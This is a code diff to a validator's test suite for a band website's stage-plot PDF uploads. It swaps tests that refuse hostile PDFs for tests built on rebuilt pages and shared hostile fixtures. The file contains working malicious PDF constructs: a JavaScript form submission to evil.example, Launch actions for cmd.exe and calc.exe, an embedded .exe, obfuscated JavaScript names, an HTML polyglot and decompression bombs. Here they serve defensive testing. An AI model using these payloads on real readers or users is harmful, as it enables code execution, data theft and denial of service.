@@ -5,14 +5,13 @@
 import { promises as fs } from "fs"
 import path from "path"
 import { contentFixture, writeImage, type ContentData } from "../__fixtures__/content-fixture"
-import { deflateSync } from "zlib"
 import { onePagePdf, pdfOf } from "../__fixtures__/edited-content"
+import { hostilePdfs } from "../__fixtures__/hostile-pdfs"
 import { pdfLimits } from "../image-words"
-import { readPdf } from "../pdf-reading"
 import { minimumImageWidth } from "../schema"
 import { checkContent, formatProblems } from "../validate"
 
-// Each check reads the stage plot in a process of its own (pdf-reading.ts): a second or more on a busy machine.
+// Each check draws the stage plot in a process of its own (rebuilt-pdfs.ts): a second or more on a busy machine.
 jest.setTimeout(30_000)
 
 /** The fixture with a booking kit the band has filled in, changed further by `change`. */
@@ -124,134 +123,35 @@ test(`a press photo without words for people who cannot see it is refused`, asyn
   )
 })
 
-const printAgain = `a stage plot needs none of that, and a booker's PDF reader could run it, so print the stage plot to a new PDF ("Save as PDF" or "Microsoft Print to PDF" in the print window), which leaves it out, or export it as PNG or JPEG`
-
-/** An object stream holding `objects` compressed, as PDF 1.5 writers keep most objects (out of sight of a plain look). */
-const objectStream = (objects: string) => {
-  const packed = deflateSync(Buffer.from(`7 0 ${objects}`, `latin1`))
-  return Buffer.concat([
-    Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
-    packed,
-    Buffer.from(`\nendstream`),
-  ])
-}
-
-test.each([
-  [
-    `a JavaScript action run when it opens that submits a form, and a page that starts a program`,
-    pdfOf({
-      catalog: `/OpenAction << /S /JavaScript /JS (this.submitForm\\("https://evil.example/"\\)) >>`,
-      page: `/AA << /O << /S /Launch /F (calc.exe) >> >>`,
-    }),
-    `JavaScript, an action that starts a program (Launch), an action run when the file is opened (OpenAction) and actions run when a page is opened or a field touched (AA)`,
-  ],
-  [
-    `an action that starts a program, run when it opens`,
-    pdfOf({ catalog: `/OpenAction << /S /Launch /F (cmd.exe) >>` }),
-    `an action that starts a program (Launch) and an action run when the file is opened (OpenAction)`,
-  ],
-  [
-    `a file inside it`,
-    pdfOf({
-      catalog: `/Names << /EmbeddedFiles << /Names [(setlist.exe) 6 0 R] >> >>`,
-      objects: [
-        `<< /Type /Filespec /F (setlist.exe) /EF << /F 7 0 R >> >>`,
-        `<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream`,
-      ],
-    }),
-    `files inside it (EmbeddedFiles)`,
-  ],
-  [
-    `a link that is not https`,
-    pdfOf({
-      page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (http://evil.example/) >> >>]`,
-    }),
-    `a link to "http://evil.example/", which is not an https address`,
-  ],
-  [
-    `JavaScript under a name written in codes (/J#61vaScript)`,
-    pdfOf({
-      catalog: `/Names << /J#61vaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>`,
-    }),
-    `JavaScript`,
-  ],
-  [
-    `an action that starts a program, packed in a compressed object stream`,
-    pdfOf({ objects: [objectStream(`<< /S /Launch /F (calc.exe) >>`)] }),
-    `an action that starts a program (Launch)`,
-  ],
-])(
-  `a stage plot with %s is refused, naming what it holds`,
-  async (_name, bytes, holds) => {
-    const contentDir = await withBooking()
-    await fs.writeFile(path.join(contentDir, `images/booking/stage-plot.pdf`), bytes)
-    expect(await problemsIn(contentDir)).toBe(`${stagePlot}, which holds ${holds}; ${printAgain}`)
-  },
-  30_000,
-)
-
-test(`a stage plot with a link to an https page or an e-mail address, or that opens at its first page, is fine`, async () => {
+test(`a stage plot holding scripts, actions and files inside is fine: the site publishes its pages drawn anew`, async () => {
   const contentDir = await withBooking()
-  const link = (target: string) =>
-    `<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (${target}) >> >>`
   const bytes = pdfOf({
-    catalog: `/OpenAction [3 0 R /Fit]`,
-    page: `/Annots [${link(`https://www.instagram.com/milkpatrolband/`)} ${link(`mailto:milkpatrolband@gmail.com`)}]`,
+    catalog: `/OpenAction << /S /Launch /F (cmd.exe) >> /Names << /J#61vaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>`,
+    page: `/AA << /O << /S /Launch /F (calc.exe) >> >>`,
   })
   await fs.writeFile(path.join(contentDir, `images/booking/stage-plot.pdf`), bytes)
   expect(await problemsIn(contentDir)).toBe(``)
-}, 30_000)
+})
 
-test(`a stage plot that is a web page too, or that claims 200,000 pages, is refused`, async () => {
+test(`a stage plot that is encrypted, or has more pages than the site takes, is refused in words`, async () => {
   const contentDir = await withBooking()
   const file = path.join(contentDir, `images/booking/stage-plot.pdf`)
-  await fs.writeFile(
-    file,
-    pdfOf({ start: `%<html><body><script>alert(document.domain)</script></body></html>\n` }),
-  )
+  const encrypted = hostilePdfs.find((pdf) => pdf.outcome === `encrypted`)!
+  await fs.writeFile(file, await encrypted.bytes())
   expect(await problemsIn(contentDir)).toBe(
-    `${stagePlot}, which starts like a PDF but holds a web page's tags in its first bytes (a file that is both, which a browser could show as a page, scripts and all); ${saveAgain}`,
+    `${stagePlot}, which is locked or encrypted (a password, or security settings that limit printing or copying); the site can only publish a PDF anyone can open, so save the stage plot again without a password or security, or print the stage plot to a new PDF ("Save as PDF" or "Microsoft Print to PDF" in the print window), or export it as PNG or JPEG`,
   )
-  await fs.writeFile(file, pdfOf({ count: 200_000 }))
+  await fs.writeFile(file, await hostilePdfs.find((pdf) => pdf.name === `11 pages`)!.bytes())
   expect(await problemsIn(contentDir)).toBe(
-    `${stagePlot}, which has 200,000 pages; a stage plot has a page or a few, and the site takes up to 100, so save only the stage plot's pages as PDF`,
+    `${stagePlot}, which has 11 pages; a stage plot has a page or a few, and the site takes up to ${pdfLimits.pages}, so save only the stage plot's pages as PDF`,
   )
-}, 30_000)
+})
 
-/** A picture on page 1 of `width`×`height` RGB pixels, whose bytes are `packed` (its Flate-compressed pixels). */
-const pictureOnPage = (width: number, height: number, packed: Buffer) =>
-  pdfOf({
-    page: `/Resources << /XObject << /Im1 6 0 R >> >>`,
-    objects: [
-      Buffer.concat([
-        Buffer.from(
-          `<< /Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
-        ),
-        packed,
-        Buffer.from(`\nendstream`),
-      ]),
-    ],
-  })
-
-const unpacksTooMuch = `${stagePlot}, whose pages and pictures unpack to more than 128 MB when it is opened (a stage plot unpacks to a few MB); save the stage plot again as a smaller PDF (most PDF programs have a "reduce file size" choice), or export it as PNG or JPEG`
-
-test(`a stage plot whose page 1 unpacks past the budget is refused before it is drawn: a picture that says so, or bytes that inflate so`, async () => {
+test(`a stage plot whose pages take more memory than the site gives is refused in words`, async () => {
   const contentDir = await withBooking()
   const file = path.join(contentDir, `images/booking/stage-plot.pdf`)
-  // 20,000×20,000 pixels: 1.2 GB decoded, from 1 KB.
-  await fs.writeFile(file, pictureOnPage(20_000, 20_000, deflateSync(Buffer.alloc(1000))))
-  expect(await problemsIn(contentDir)).toBe(unpacksTooMuch)
-  // A stream of 0.2 MB that inflates to 200 MB: inflated no further than the budget.
-  const zeros = deflateSync(Buffer.alloc(200_000_000), { level: 1 })
-  await fs.writeFile(file, pictureOnPage(100, 100, zeros))
-  expect(await problemsIn(contentDir)).toBe(unpacksTooMuch)
+  await fs.writeFile(file, await hostilePdfs.find((pdf) => pdf.name.includes(`12000`))!.bytes())
+  expect(await problemsIn(contentDir)).toBe(
+    `${stagePlot}, which takes more memory than the 512 MB the site gives a stage plot to draw its pages (a real one takes a fraction of that); save the stage plot again as a smaller PDF (most PDF programs have a "reduce file size" choice), or export it as PNG or JPEG`,
+  )
 }, 60_000)
-
-test(`the reader runs in a process of its own, ended when it holds more memory or takes more time than its limits`, async () => {
-  const contentDir = await withBooking()
-  const file = path.join(contentDir, `images/booking/stage-plot.pdf`)
-  expect(await readPdf(file)).toMatchObject({ contents: { pages: 1, active: [], webPage: false } })
-  // Node alone holds more than 20 MB: the process's own watch ends it.
-  expect(await readPdf(file, { ...pdfLimits, megabytes: 20 })).toEqual({ tooMuch: `memory` })
-  expect(await readPdf(file, { ...pdfLimits, milliseconds: 1 })).toEqual({ tooMuch: `time` })
-}, 30_000)
